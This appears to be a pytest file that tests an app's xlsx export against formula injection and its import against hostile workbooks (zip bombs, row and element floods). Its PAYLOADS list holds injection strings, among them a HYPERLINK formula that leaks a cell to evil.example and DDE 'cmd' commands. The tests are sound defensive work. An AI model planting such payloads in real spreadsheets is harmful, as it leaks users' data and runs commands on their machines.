"""Text is always text in xlsx (one rule, app.export.celltext), and a hostile .xlsx is refused fast and small.

The full-size hostile files of issue 11 (1 M rows, 4 × 4,990 × 60 cells, 2 GB of lying sizes) are measured by
benchmarks/xlsx_hostile.py; here smaller ones of the same shape prove each limit holds.
"""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from app.domain.model import Indicator, Packet, ReportSection
from app.domain.package import PackageError, read_package_file
from app.export import ExportError, export_packet
from app.export.celltext import MAX_CELL_CHARS, looks_like_formula
from app.export.template_import import read_template_file
from app.export.xlsx_reader import MAX_CELLS, MAX_ROWS
from tests.export import hostile_xlsx

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT / "tests" / "data" / "seed_000.json"

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    '=WEBSERVICE("http://evil.example/")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
]


def _hostile_packet() -> Packet:
    packet = read_package_file(SEED)
    packet.unit.name = PAYLOADS[0]
    packet.unit.preparer = PAYLOADS[1]
    ind = packet.self_eval.indicators
    for i, payload in enumerate(PAYLOADS[2:]):
        ind[i].name = payload
    ind[0].target = "=1/0"
    ind[1].actual = "+100%"
    ind[2].deviation = "-"
    packet.projects[0].name = "=2*3"
    packet.projects[0].indicators[0].name = "@A1"
    packet.self_eval.targets[0].expected = "=A1&A2"
    packet.report.sections[0].title = "=WEBSERVICE(1)"
    return packet


def test_formula_like_text_is_written_as_text_and_read_back(tmp_path: Path) -> None:
    packet = _hostile_packet()
    out = export_packet(packet, "xlsx", tmp_path / "p.xlsx", draft=True)
    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    for payload in ("HYPERLINK", "WEBSERVICE", "cmd|", "@SUM", "2*3"):
        assert f"<f>{payload}".encode() not in xml and b"<f>" + payload.encode() not in xml
    wb = openpyxl.load_workbook(out)
    formula_like = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and looks_like_formula(cell.value) and cell.data_type != "f":
                    formula_like += 1
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert formula_like >= len(PAYLOADS)
    back = read_template_file(out)
    assert back.unit.name == PAYLOADS[0]
    assert back.unit.preparer == PAYLOADS[1]
    names = [i.name for i in back.self_eval.indicators]
    for payload in PAYLOADS[2:]:
        assert payload in names
    got = back.self_eval.indicators
    assert (got[0].target, got[1].actual) == ("=1/0", "+100%")
    assert back.projects[0].name == "=2*3"
    assert back.projects[0].indicators[0].name == "@A1"
    assert back.self_eval.targets[0].expected == "=A1&A2"
    assert back.report.sections[0].title == "=WEBSERVICE(1)"


def test_real_formulas_still_count_as_computed(tmp_path: Path) -> None:
    """The shared rule's other half: the export's own formulas (控制率…) are formulas, so recomputed."""
    out = export_packet(read_package_file(SEED), "xlsx", tmp_path / "p.xlsx", draft=True)
    back = read_template_file(out)
    assert back.basic.staff.control_rate is None  # a formula cell: "computed", not a stated figure


def test_a_text_cell_starting_with_equals_in_a_hand_made_file_is_text(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(export_packet(read_package_file(SEED), "xlsx", tmp_path / "p.xlsx", draft=True))
    ws = wb["附件2"]
    first = read_package_file(SEED).self_eval.indicators[0].name
    cell = next(c for row in ws.iter_rows() for c in row if c.value == first)
    cell.value = "=SUM(1,2)"
    cell.data_type = "s"  # a string cell, as Excel stores text typed after a quote
    path = tmp_path / "text.xlsx"
    wb.save(path)
    assert read_template_file(path).self_eval.indicators[0].name == "=SUM(1,2)"


def test_long_report_paragraph_survives_the_round_trip(tmp_path: Path) -> None:
    packet = read_package_file(SEED)
    long_text = ("绩效" * 10 + " ") * 2100  # 44,100 characters, spaces at chunk boundaries
    packet.report.sections.append(ReportSection(title="附：长段落", text=long_text.strip()))
    out = export_packet(packet, "xlsx", tmp_path / "long.xlsx", draft=True)
    back = read_template_file(out)
    assert back.report.sections[-1].text == long_text.strip()


def test_text_over_the_cell_limit_is_refused_not_cut(tmp_path: Path) -> None:
    packet = read_package_file(SEED)
    packet.self_eval.indicators.append(
        Indicator(level1="产出指标", level2="数量指标", name="长" * (MAX_CELL_CHARS + 1), weight="0", score="0")
    )
    with pytest.raises(ExportError) as info:
        export_packet(packet, "xlsx", tmp_path / "cut.xlsx", draft=True)
    assert "32767" in str(info.value)
    assert not (tmp_path / "cut.xlsx").exists()
    assert list(tmp_path.iterdir()) == []  # no half-written temporary file either


def test_cli_reports_the_long_text_in_chinese(tmp_path: Path) -> None:
    doc = json.loads(SEED.read_text("utf-8"))
    doc["unit"]["name"] = "单" * 40000
    src = tmp_path / "p.json"
    src.write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    out = tmp_path / "o.xlsx"
    command = [sys.executable, "-m", "app.cli", "export", str(src), "-f", "xlsx", "--draft", "-o", str(out)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=120, check=False)
    assert done.returncode == 2, done.stderr
    assert "32767" in done.stderr and "Traceback" not in done.stderr


# --- hostile files --------------------------------------------------------------------------------------


def _refused(path: Path) -> str:
    with pytest.raises(PackageError) as info:
        read_template_file(path)
    return info.value.one_line()


def test_rows_hidden_behind_a_namespace_prefix_are_counted(tmp_path: Path) -> None:
    path = hostile_xlsx.write_xlsx(tmp_path / "ns.xlsx", [hostile_xlsx.sheet_rows(MAX_ROWS + 5, 1, prefix="x:")])
    assert f"超过{MAX_ROWS}行" in _refused(path)


def test_many_cells_within_each_sheets_limits_are_refused(tmp_path: Path) -> None:
    per_sheet = MAX_CELLS // 3 // 60 + 2
    path = hostile_xlsx.wide_sheets(tmp_path / "wide.xlsx", sheets=4, rows=per_sheet, cols=60)
    assert "单元格" in _refused(path)


def test_declared_sizes_that_lie_are_not_trusted(tmp_path: Path) -> None:
    path = hostile_xlsx.lying_sizes(tmp_path / "lie.xlsx", inflated=64 * 1024 * 1024)
    assert path.stat().st_size < 1024 * 1024
    assert "损坏" in _refused(path) or "炸弹" in _refused(path)


def test_too_many_zip_entries_are_refused_before_listing_them(tmp_path: Path) -> None:
    path = hostile_xlsx.many_entries(tmp_path / "many.xlsx", entries=5000)
    assert "文件过多" in _refused(path)


def test_element_flood_is_refused(tmp_path: Path) -> None:
    path = hostile_xlsx.element_flood(tmp_path / "flood.xlsx", elements=1_200_000)
    message = _refused(path)
    assert "XML元素" in message or "炸弹" in message or "压缩比" in message


def test_a_cell_with_a_novel_in_it_is_refused(tmp_path: Path) -> None:
    def pieces() -> Iterator[bytes]:
        yield f'<worksheet xmlns="{hostile_xlsx.MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
        yield "字".encode() * 200_000
        yield b"</t></is></c></row></sheetData></worksheet>"

    path = hostile_xlsx.write_xlsx(tmp_path / "novel.xlsx", [pieces()])
    assert "文字过长" in _refused(path)


def test_broken_shared_string_reference_is_damage_not_a_crash(tmp_path: Path) -> None:
    def pieces() -> Iterator[bytes]:
        yield f'<worksheet xmlns="{hostile_xlsx.MAIN}"><sheetData><row r="1"><c r="A1" t="s"><v>7</v></c>'.encode()
        yield b"</row></sheetData></worksheet>"

    assert "损坏" in _refused(hostile_xlsx.write_xlsx(tmp_path / "sst.xlsx", [pieces()]))


def test_hostile_file_memory_stays_small(tmp_path: Path) -> None:
    """Peak memory of a whole `perfeval check` of the worst hostile shapes, in a fresh process."""
    files = [
        hostile_xlsx.wide_sheets(tmp_path / "wide.xlsx", sheets=4, rows=600, cols=60),
        hostile_xlsx.lying_sizes(tmp_path / "lie.xlsx", inflated=64 * 1024 * 1024),
        hostile_xlsx.write_xlsx(tmp_path / "ns.xlsx", [hostile_xlsx.sheet_rows(MAX_ROWS + 5, 20, prefix="x:")]),
    ]
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss over from the forking process (pytest) across exec
    script = (
        "import re, sys\n"
        "from app.cli import main\n"
        "codes = [main(['check', f]) for f in sys.argv[1:]]\n"
        "status = open('/proc/self/status').read()\n"
        "print(codes, re.search(r'VmHWM:\\s*(\\d+)', status).group(1))\n"
    )
    done = subprocess.run([sys.executable, "-c", script, *map(str, files)], capture_output=True, text=True,
                          cwd=ROOT, timeout=300, check=True)
    codes, peak_kb = done.stdout.rsplit("]", 1)
    assert codes.strip() == "[2, 2, 2"
    assert int(peak_kb) < 300 * 1024, done.stdout


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_lone_surrogate_in_a_packet_is_a_chinese_export_error(tmp_path: Path, fmt: str) -> None:
    """The package reader refuses them; a packet built in memory (a broken paste) is refused at export."""
    packet = read_package_file(SEED)
    packet.unit.name = "单位\ud800"
    with pytest.raises(ExportError, match="代理项"):
        export_packet(packet, fmt, tmp_path / f"s.{fmt}", draft=True)
    assert list(tmp_path.iterdir()) == []


def test_unit_name_of_300_characters_exports_to_word(tmp_path: Path) -> None:
    """Word's title property holds 255 characters (python-docx refused more: 程序内部错误); the pages keep it all."""
    from docx import Document

    packet = read_package_file(SEED)
    packet.unit.name = "中共岳阳市委组织部" * 34  # 306 characters
    out = export_packet(packet, "docx", tmp_path / "long.docx", draft=True)
    word = Document(str(out))
    assert len(word.core_properties.title) <= 255
    assert any(packet.unit.name in p.text for p in word.paragraphs)
